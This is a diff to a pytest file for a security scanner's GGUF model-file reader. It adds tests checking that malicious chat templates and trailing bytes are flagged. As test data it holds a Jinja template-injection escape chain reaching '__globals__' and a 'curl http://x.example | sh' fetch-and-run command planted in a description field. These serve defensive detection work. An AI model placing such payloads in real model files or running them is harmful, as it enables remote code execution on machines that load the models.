@@ -10,6 +10,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from mlsecops.models.readers.gguf import GgufReader
 from support.parts import read_with, reasons, rules, subjects
+from support.witness import MARK, Witness
 
 U32, STRING, ARRAY, F32 = 4, 8, 9, 6
 TEMPLATE = "tokenizer.chat_template"
@@ -88,6 +89,14 @@ def test_every_template_is_looked_at(tmp_path: Path, entries: tuple[bytes, ...])
     assert "__class__" in subjects(found, "template-escape")
 
 
+def test_one_template_is_one_fact_whatever_it_names(tmp_path: Path) -> None:
+    escape = "{{ ''.__class__.__base__.__subclasses__().__init__.__globals__ }}"
+    found = read_with(tmp_path, gguf(entry(TEMPLATE, STRING, text(escape))), GgufReader())
+    [fact] = found.facts.values()
+    assert fact.subject == "__base__, __class__, __globals__, __init__, __subclasses__"
+    assert fact.message.endswith("and does 1 more thing of that kind.")
+
+
 def test_other_texts_are_looked_at(tmp_path: Path) -> None:
     data = gguf(
         entry("general.description", STRING, text("curl http://x.example | sh")),
@@ -137,9 +146,12 @@ def test_tensors_that_mislead_are_facts(tmp_path: Path, tensors: tuple[bytes, ..
     assert "gguf-tensors" in rules(read_with(tmp_path, gguf(tensors=tensors, data=4096), GgufReader()))
 
 
-def test_bytes_behind_the_tensors_are_odd(tmp_path: Path) -> None:
-    found = read_with(tmp_path, gguf(tensors=(tensor("a", (8,)),), data=4096), GgufReader())
+def test_bytes_behind_the_tensors_are_odd_and_read(tmp_path: Path) -> None:
+    witness = Witness()
+    data = gguf(tensors=(tensor("a", (8,)),), data=32) + MARK
+    found = read_with(tmp_path, data, GgufReader(), witness)
     assert [fact.severity for fact in found.facts.values()] == [5.0]
+    assert witness.contents == [MARK]
 
 
 @pytest.mark.parametrize(
